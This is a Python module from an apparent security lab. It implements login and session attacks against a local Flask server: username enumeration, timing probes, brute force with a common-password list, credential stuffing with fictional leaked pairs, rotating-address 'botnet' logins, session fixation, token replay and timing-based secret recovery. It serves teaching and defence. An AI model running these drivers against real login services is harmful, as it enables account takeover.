"""Attacks on logins and sessions, and the password lists they use.

A *login* here is any callable ``login(username, password) -> LoginAnswer``: one real
HTTP request to a server on 127.0.0.1 (``http_login``), or a request through Flask's
test client from a chosen client address (``client_login``, ``botnet_login``; no
packet leaves the process). The drivers decide success from the answers alone, the way
an attacker would.
"""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from typing import Any

from seclab.attacks import AttackResult
from seclab.server import http_request

#: The most common passwords, most common first (compiled from public breach statistics).
COMMON_PASSWORDS: list[str] = [
    "123456", "password", "123456789", "12345678", "12345", "qwerty", "1234567", "111111", "123123",
    "abc123", "password1", "1234567890", "000000", "iloveyou", "1q2w3e4r", "qwerty123", "admin",
    "letmein", "welcome", "monkey", "dragon", "654321", "football", "baseball", "princess", "master",
    "shadow", "superman", "michael", "trustno1", "sunshine", "sunshine1", "passw0rd", "starwars",
    "hello123", "freedom", "whatever", "qazwsx", "zaq12wsx", "password123", "Password1", "Password1!",
    "Welcome1", "Welcome1!", "Summer2024!", "Winter2019!", "Spring2023!", "P@ssw0rd", "P@ssw0rd1",
    "Qwerty123!", "Admin123!", "Football1!", "Iloveyou1!", "Monkey123!", "Dragon2020!",
]

#: Another website's leaked logins (username, password): attackers try them everywhere.
#: carol and dave reused theirs here; alice's leaked password is an old one.
LEAKED_CREDENTIALS: list[tuple[str, str]] = [
    ("kim", "kim2010"), ("lee", "blue-sky-9"), ("alice", "alice1985"), ("pat", "Password1"),
    ("sam", "qwerty123"), ("jo", "letmein"), ("carol", "Winter2019!"), ("max", "monkey"),
    ("ann", "pass4ann"), ("tom", "tomtom"), ("eve", "iloveyou"), ("ray", "ray-ray-1"),
    ("ola", "123456"), ("ben", "ben123"), ("zoe", "zoe-zoe"), ("ian", "football"),
    ("amy", "amy!2015"), ("jay", "dragon"), ("liv", "Welcome1!"), ("ron", "shadow"),
    ("mia", "sunshine"), ("gus", "trustno1"), ("dave", "dave-loves-pizza"), ("ada", "qazwsx"),
    ("eli", "eli-2000"), ("una", "master"), ("vic", "superman"), ("wes", "hello123"),
]

#: A breached-password blocklist: what NIST SP 800-63B wants new passwords checked against.
BREACHED_PASSWORDS: frozenset[str] = frozenset(COMMON_PASSWORDS) | {password for _, password in LEAKED_CREDENTIALS}

#: Usernames an attacker tries in the lesson.
LESSON_CANDIDATES: list[str] = ["admin", "alice", "bob", "eve", "mallory", "root"]

#: Usernames of the exercise's exploit challenge: which of them have an account?
EXERCISE_CANDIDATES: list[str] = [
    "admin", "administrator", "carol", "dave", "eve", "frank", "grace", "heidi", "ivan", "judy",
    "mallory", "oscar", "peggy", "root", "support", "sybil", "trent", "walter",
]


@dataclass(frozen=True)
class LoginAnswer:
    """What a login request got back: status, JSON body and the Set-Cookie header."""

    status: int
    body: Any
    set_cookie: str | None = None

    @property
    def token(self) -> str | None:
        """The session cookie's value, when the answer set a non-empty one."""
        if not self.set_cookie:
            return None
        name, value, _attributes = parse_set_cookie(self.set_cookie)
        return value if name == "session" and value else None

    def shown(self) -> str:
        return f"{self.status} {json.dumps(self.body)}"


Login = Callable[[str, str], LoginAnswer]


def http_login(base_url: str, username: str, password: str, *, cookie: str | None = None,
               code: str | None = None) -> LoginAnswer:
    """POST /login over real HTTP (loopback only), optionally with a session cookie and a code."""
    body = {"username": username, "password": password}
    if code is not None:
        body["code"] = code
    headers = {"Cookie": f"session={cookie}"} if cookie else None
    reply = http_request("POST", f"{base_url}/login", json_body=body, headers=headers)
    return LoginAnswer(reply.status, reply.json(), _header(reply.headers, "Set-Cookie"))


def client_login(app: Any, username: str, password: str, ip: str = "198.51.100.7",
                 code: str | None = None) -> LoginAnswer:
    """POST /login through Flask's test client, as if from client address ``ip`` (in process)."""
    body = {"username": username, "password": password}
    if code is not None:
        body["code"] = code
    client = app.test_client()
    response = client.post("/login", json=body, environ_base={"REMOTE_ADDR": ip})
    return LoginAnswer(response.status_code, response.get_json(silent=True), response.headers.get("Set-Cookie"))


def botnet_login(app: Any, addresses: int = 250) -> Login:
    """A login that comes from a different address each time (documentation ranges, in process)."""
    counter = iter(range(10**9))

    def login(username: str, password: str) -> LoginAnswer:
        number = next(counter) % addresses
        return client_login(app, username, password, ip=f"203.0.{113 + number // 250}.{number % 250 + 1}")

    return login


def who_am_i(base_url: str, token: str | None) -> str | None:
    """GET /me with the session cookie ``token``: the username the server sees, or None."""
    headers = {"Cookie": f"session={token}"} if token else None
    reply = http_request("GET", f"{base_url}/me", headers=headers)
    body = reply.json()
    return body.get("user") if reply.status == 200 and isinstance(body, dict) else None


def _header(headers: dict[str, str], name: str) -> str | None:
    return next((value for key, value in headers.items() if key.lower() == name.lower()), None)


def parse_set_cookie(value: str) -> tuple[str, str, dict[str, str]]:
    """``"a=b; Path=/; HttpOnly"`` -> ("a", "b", {"path": "/", "httponly": ""}); names lower-cased."""
    first, *rest = value.split(";")
    name, _, cookie_value = first.partition("=")
    attributes = {}
    for part in rest:
        key, _, attribute = part.strip().partition("=")
        attributes[key.strip().lower()] = attribute.strip()
    return name.strip(), cookie_value.strip(), attributes


def cookie_findings(set_cookie: str) -> list[str]:
    """What a passive scanner reports on a session cookie (after OWASP ZAP's cookie rules)."""
    _name, _value, attributes = parse_set_cookie(set_cookie)
    findings = []
    if "httponly" not in attributes:
        findings.append("no HttpOnly: page scripts (and injected ones) can read the session")
    if "secure" not in attributes:
        findings.append("no Secure: the browser also sends it over plain http://")
    if attributes.get("samesite", "").lower() not in ("lax", "strict"):
        findings.append("no SameSite=Lax/Strict: other sites' requests carry it (CSRF)")
    if "domain" in attributes:
        findings.append(f"Domain={attributes['domain']}: every subdomain receives it")
    if "expires" in attributes or "max-age" in attributes:
        findings.append("persistent: it outlives the browser session on disk")
    return findings


# --- enumeration -------------------------------------------------------------------------

@dataclass(frozen=True)
class Enumeration:
    """Each candidate's answer, the answer of a name that surely does not exist, and the verdict."""

    answers: dict[str, str]
    baseline: str
    exists: set[str]

    @property
    def succeeded(self) -> bool:
        return bool(self.exists)


def _surely_unknown() -> str:
    return "no-such-user-" + secrets.token_hex(6)


def enumerate_by_answers(login: Login, candidates: Iterable[str]) -> Enumeration:
    """Try each candidate with a wrong password; a name whose answer differs from a
    made-up name's answer exists. The name itself is blanked out of each answer first."""
    password = "not-the-password-" + secrets.token_hex(4)

    def signature(name: str) -> str:
        return login(name, password).shown().replace(json.dumps(name)[1:-1], "<name>")

    baseline = signature(_surely_unknown())
    answers = {name: signature(name) for name in candidates}
    return Enumeration(answers, baseline, {name for name, answer in answers.items() if answer != baseline})


def enumerate_by_work(login: Login, candidates: Iterable[str], work: Callable[[], int]) -> Enumeration:
    """The same, but comparing how much hashing work (``work()``, e.g. verify calls) each login did."""
    password = "not-the-password-" + secrets.token_hex(4)

    def signature(name: str) -> str:
        before = work()
        login(name, password)
        checks = work() - before
        return f"{checks} hash check{'' if checks == 1 else 's'}"

    baseline = signature(_surely_unknown())
    answers = {name: signature(name) for name in candidates}
    return Enumeration(answers, baseline, {name for name, answer in answers.items() if answer != baseline})


def probe_accounts(app: Any, candidates: Iterable[str]) -> Enumeration:
    """Log each candidate in to ``app`` (in process) with a wrong password, each from its own
    address, and compare the answer and the hashing work with a made-up name's."""
    verify = app.config["VERIFY"]
    password = "not-the-password-" + secrets.token_hex(4)
    addresses = iter(range(10**9))

    def signature(name: str) -> str:
        before = verify.calls
        answer = client_login(app, name, password, ip=f"198.51.100.{next(addresses) % 250 + 1}")
        blanked = answer.shown().replace(json.dumps(name)[1:-1], "<name>")
        checks = verify.calls - before
        return f"{blanked} after {checks} hash check{'' if checks == 1 else 's'}"

    baseline = signature(_surely_unknown())
    answers = {name: signature(name) for name in candidates}
    return Enumeration(answers, baseline, {name for name, answer in answers.items() if answer != baseline})


def time_logins(login: Login, usernames: list[str], rounds: int) -> dict[str, list[float]]:
    """Wall-clock seconds of ``rounds`` wrong-password logins per username, interleaved so
    that a burst of load on the machine hits every username alike."""
    timings: dict[str, list[float]] = {name: [] for name in usernames}
    for _ in range(rounds):
        for name in usernames:
            start = time.perf_counter()
            login(name, "not-the-password")
            timings[name].append(time.perf_counter() - start)
    return timings


# --- guessing ------------------------------------------------------------------------------

@dataclass
class Guessing:
    """The outcome of a guessing attack: accounts taken over and how many tries it took."""

    attempts: int = 0
    taken_over: dict[str, str] = field(default_factory=dict)  # username -> working password
    answers: list[str] = field(default_factory=list)

    @property
    def succeeded(self) -> bool:
        return bool(self.taken_over)

    def taken_over_text(self) -> str:
        """``"carol (password 'Winter2019!'), dave (…)"``, or ``"nothing"``."""
        return ", ".join(f"{user} (password {password!r})" for user, password in self.taken_over.items()) or "nothing"


def brute_force(login: Login, username: str, passwords: Iterable[str]) -> Guessing:
    """Online guessing: try each password for one username until one gets a session."""
    result = Guessing()
    for password in passwords:
        answer = login(username, password)
        result.attempts += 1
        result.answers.append(answer.shown())
        if answer.token:
            result.taken_over[username] = password
            break
    return result


def credential_stuffing(login: Login, pairs: Iterable[tuple[str, str]]) -> Guessing:
    """Replay leaked (username, password) pairs, one try each."""
    result = Guessing()
    for username, password in pairs:
        answer = login(username, password)
        result.attempts += 1
        result.answers.append(answer.shown())
        if answer.token:
            result.taken_over[username] = password
    return result


# --- sessions ------------------------------------------------------------------------------

def session_fixation(base_url: str, victim: str, password: str) -> AttackResult:
    """The attacker gets a session id from the login page, plants it in the victim's browser,
    waits for the victim to log in, then uses the same id."""
    page = http_request("GET", f"{base_url}/login")
    planted = LoginAnswer(page.status, None, _header(page.headers, "Set-Cookie")).token
    if planted is None:
        planted = secrets.token_urlsafe(32)  # nothing handed out: the attacker makes one up
    victim_answer = http_login(base_url, victim, password, cookie=planted)
    seen_as = who_am_i(base_url, planted)
    return AttackResult(planted[:8] + "…", seen_as == victim,
                        f"victim logged in ({victim_answer.status}); the planted id is now "
                        f"{'logged in as ' + seen_as if seen_as else 'not logged in'}")


def replay_after_logout(base_url: str, username: str, password: str) -> AttackResult:
    """Log in, keep a copy of the token (what a thief would have), log out, replay the copy."""
    token = http_login(base_url, username, password).token
    if token is None:
        return AttackResult("", False, "could not log in")
    reply = http_request("POST", f"{base_url}/logout", headers={"Cookie": f"session={token}"})
    seen_as = who_am_i(base_url, token)
    return AttackResult(token[:8] + "…", seen_as == username,
                        f"logout said {reply.status} and told the browser: {_header(reply.headers, 'Set-Cookie')}; "
                        f"the old token {'still works for ' + seen_as if seen_as else 'is dead'}")


# --- comparisons -----------------------------------------------------------------------------

def recover_by_work(check: Callable[[str], tuple[bool, int]], alphabet: str, length: int) -> tuple[str | None, int]:
    """Recover a secret from a comparison that reveals how far it got (its work, or its time).

    ``check(guess)`` returns (accepted, work done). At each position the right character
    makes the comparison go one step further, so each position takes at most
    ``len(alphabet)`` guesses; the last one is recognised by being accepted. Returns
    (the secret, or None if not found; guesses made).
    """
    known, guesses = "", 0
    for _ in range(length):
        best, best_work = alphabet[0], -1
        for character in alphabet:
            accepted, work = check((known + character).ljust(length, "\0"))
            guesses += 1
            if accepted:
                return known + character, guesses
            if work > best_work:
                best, best_work = character, work
        known += best
    return None, guesses


def fastest(function: Callable[[], Any], repeat: int = 30) -> float:
    """The fastest of ``repeat`` runs in seconds: load on the machine only ever adds time."""
    best = float("inf")
    for _ in range(repeat):
        start = time.perf_counter()
        function()
        best = min(best, time.perf_counter() - start)
    return best
